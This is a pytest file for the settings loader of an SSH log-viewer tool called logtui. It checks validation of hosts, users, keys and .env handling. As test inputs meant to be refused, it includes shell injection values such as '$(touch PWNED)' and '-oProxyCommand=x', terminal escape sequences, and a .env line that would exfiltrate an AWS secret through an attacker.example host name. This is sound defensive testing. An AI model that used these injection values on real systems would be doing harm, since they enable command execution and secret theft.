"""Settings from the environment: the spec's names, ours, and clear errors."""

from __future__ import annotations

from pathlib import Path

import pytest

from logtui.config import load_settings, normalize_key_text, read_environment

KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\n-----END OPENSSH PRIVATE KEY-----\n"


def test_spec_variables_are_read() -> None:
    s = load_settings({"HETZNER_HOST": "203.0.113.7", "HETZNER_USER": "root", "HETZNER_SSH_KEY": KEY})
    assert (s.host, s.user, s.port) == ("203.0.113.7", "root", None)
    assert s.key_text == KEY
    assert s.label == "root@203.0.113.7"


def test_logtui_variables_win_over_the_spec_names() -> None:
    s = load_settings({"HETZNER_HOST": "a", "LOGTUI_HOST": "b", "LOGTUI_PORT": "2222"})
    assert (s.host, s.port) == ("b", 2222)
    assert s.label == "b:2222"


def test_key_with_literal_backslash_n_is_repaired() -> None:
    escaped = KEY.replace("\n", "\\n")
    s = load_settings({"LOGTUI_HOST": "h", "HETZNER_SSH_KEY": f'"{escaped}"'})
    assert s.key_text == KEY
    assert normalize_key_text(KEY.rstrip("\n")) == KEY


@pytest.mark.parametrize(
    ("env", "needle"),
    [
        ({}, "LOGTUI_HOST"),
        ({"LOGTUI_HOST": "h", "LOGTUI_PORT": "ssh"}, "LOGTUI_PORT"),
        ({"LOGTUI_HOST": "h", "LOGTUI_PORT": "70000"}, "LOGTUI_PORT"),
        ({"LOGTUI_HOST": "h", "HETZNER_SSH_KEY": "not a key"}, "HETZNER_SSH_KEY"),
        ({"LOGTUI_HOST": "h", "LOGTUI_SSH_KEY_FILE": "/nonexistent/key"}, "LOGTUI_SSH_KEY_FILE"),
        ({"LOGTUI_HOST": "h", "LOGTUI_KNOWN_HOSTS": "/nonexistent/kh"}, "LOGTUI_KNOWN_HOSTS"),
        ({"LOGTUI_HOST": "-oProxyCommand=x"}, "LOGTUI_HOST"),
        ({"LOGTUI_HOST": "h", "LOGTUI_COMMAND_TIMEOUT": "-1"}, "LOGTUI_COMMAND_TIMEOUT"),
    ],
)
def test_bad_configuration_raises_value_error_naming_the_variable(env: dict, needle: str) -> None:
    with pytest.raises(ValueError, match=needle):
        load_settings(env)


def test_dotenv_file_is_read_and_environment_wins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / ".env").write_text("LOGTUI_HOST=from-dotenv\nLOGTUI_USER=deploy\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("LOGTUI_HOST", raising=False)
    monkeypatch.setenv("LOGTUI_USER", "from-env")
    env = read_environment()
    s = load_settings(env)
    assert (s.host, s.user) == ("from-dotenv", "from-env")


def test_a_dotenv_sets_only_where_to_connect_and_says_what_it_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    dotenv = tmp_path / ".env"
    escaped_key = KEY.replace("\n", "\\n")
    dotenv.write_text(
        "HETZNER_HOST=203.0.113.7\nHETZNER_USER=root\nLOGTUI_PORT=2222\n"
        f"HETZNER_SSH_KEY={escaped_key}\n"
        "LOGTUI_KNOWN_HOSTS=/tmp/theirs\nLOGTUI_TRUST_NEW_HOST_KEYS=1\nLOGTUI_MASK_SECRETS=0\n"
        "LOGTUI_AUDIT_LOG=~/.bashrc\nLOGTUI_SSH_KEY_FILE=/tmp/k\nSECRET_NOT_OURS=x\n"
    )
    for name in ("HETZNER_HOST", "HETZNER_USER", "LOGTUI_PORT", "HETZNER_SSH_KEY"):
        monkeypatch.delenv(name, raising=False)
    for name in ("LOGTUI_HOST", "LOGTUI_USER", "LOGTUI_SSH_KEY", "LOGTUI_KNOWN_HOSTS", "LOGTUI_AUDIT_LOG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("LOGTUI_MASK_SECRETS", "1")
    env = read_environment(dotenv)
    s = load_settings(env)
    assert (s.host, s.user, s.port, s.key_text) == ("203.0.113.7", "root", 2222, KEY)
    assert s.known_hosts is None and not s.trust_new_host_keys and s.mask_secrets
    assert s.audit_log == Path("~/.local/state/logtui/audit.jsonl").expanduser()
    assert s.key_file is None and "SECRET_NOT_OURS" not in env
    err = capsys.readouterr().err.splitlines()
    assert err == [
        f"logtui: ignored in {dotenv}: LOGTUI_AUDIT_LOG, LOGTUI_KNOWN_HOSTS, LOGTUI_MASK_SECRETS, "
        "LOGTUI_SSH_KEY_FILE, LOGTUI_TRUST_NEW_HOST_KEYS (a .env may set only the host, user, port "
        "and key; set the others in the environment)"
    ]
    read_environment(dotenv)
    assert capsys.readouterr().err == ""  # said once per process


def test_a_dotenv_cannot_pull_the_environment_into_a_host_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / ".env").write_text("LOGTUI_HOST=${AWS_SECRET_ACCESS_KEY}.attacker.example\n")
    monkeypatch.delenv("LOGTUI_HOST", raising=False)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    env = read_environment(tmp_path / ".env")
    assert "wJalrXUtnFEMI" not in env["LOGTUI_HOST"]
    with pytest.raises(ValueError, match="LOGTUI_HOST"):
        load_settings(env)


def test_ignored_names_are_shown_escaped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / ".env").write_text("'LOGTUI_\x1b]0;owned\x07'=1\n")
    read_environment(tmp_path / ".env")
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b" in err


@pytest.mark.parametrize("user", ["root", "deploy", "ci-bot", "svc_logs", "a.b", "machine$", "u" * 64])
def test_posix_user_names_are_accepted(user: str) -> None:
    assert load_settings({"LOGTUI_HOST": "h", "LOGTUI_USER": user}).user == user


@pytest.mark.parametrize(
    "user", ["$(touch PWNED)", "-oProxyCommand=x", "a b", "root;id", "`id`", "ro\not", "é", "u" * 65]
)
def test_other_user_names_are_refused(user: str) -> None:
    with pytest.raises(ValueError, match=r"LOGTUI_USER=.* is not a user name"):
        load_settings({"LOGTUI_HOST": "h", "LOGTUI_USER": user})


@pytest.mark.parametrize("host", ["$(id)", "a;b", "h\x1b[2J", "`id`", "host/x"])
def test_shell_syntax_in_the_host_is_refused(host: str) -> None:
    with pytest.raises(ValueError, match="LOGTUI_HOST"):
        load_settings({"LOGTUI_HOST": host})


def test_settings_repr_hides_the_key_and_passphrase() -> None:
    s = load_settings({"LOGTUI_HOST": "h", "LOGTUI_SSH_KEY": KEY, "LOGTUI_SSH_KEY_PASSPHRASE": "hunter2"})
    assert s.key_text == KEY and s.key_passphrase == "hunter2"
    assert "PRIVATE KEY" not in repr(s) and "hunter2" not in repr(s)
